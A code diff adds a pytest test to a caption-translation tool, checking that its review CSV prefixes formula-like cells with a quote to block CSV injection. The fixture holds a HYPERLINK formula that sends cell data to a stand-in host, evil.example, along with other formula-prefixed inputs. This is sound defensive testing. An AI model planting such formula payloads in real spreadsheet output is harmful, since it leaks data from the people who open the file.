@@ -6,7 +6,9 @@ import csv
 
 import pytest
 import sacrebleu
+from typer.testing import CliRunner
 
+from clipit.cli.main import app
 from clipit.data.translate import run
 from tests.data.translate.conftest import libre_config, write_manifest
 from tests.support.libre_server import fake_translate
@@ -82,3 +84,28 @@ def test_identical_references_score_100(server, tmp_path):
     assert summary.scores["BLEU"] == pytest.approx(100.0)
     assert summary.scores["rows"] == 2
     assert len(_sheet(tmp_path / "out" / "manifest.review.csv")) == 2
+
+
+def test_review_csv_cells_never_run_as_spreadsheet_formulas(server, tmp_path):
+    """OWASP's CSV-injection rule: a cell starting with = + - @ (or tab, CR) gets a leading quote."""
+    english = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1 a red dog",
+        "-2 a cat",
+        "@SUM(A1:A9) a car",
+    ]
+    references = ["=1+2", "\tuna macchina", "\run gatto", "una casa"]
+    write_manifest(tmp_path / "src" / "manifest.parquet", english, caption=references, lang=["it"] * 4)
+    result = CliRunner().invoke(
+        app,
+        ["translate", "--input", str(tmp_path / "src"), "--to", "it", "--backend", "libre",
+         "--endpoint", server.url, "--sample", "4", "--set", f"translate.cache={tmp_path / 'c.sqlite'}"],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    sheet = {row["key"]: row for row in _sheet(tmp_path / "src" / "manifest.review.csv")}
+    rows = [sheet[f"cc3m/{i:06d}"] for i in range(4)]
+    assert [row["caption_en"] for row in rows] == ["'" + text for text in english]
+    assert [row["reference"] for row in rows] == ["'=1+2", "'\tuna macchina", "'\run gatto", "una casa"]
+    assert all(row["machine_translation"].startswith("[it] ") for row in rows)  # safe cells unchanged
+    html = (tmp_path / "src" / "manifest.review.html").read_text()
+    assert "=1+2" in html and "'=1+2" not in html  # the HTML is not a spreadsheet: shown as written
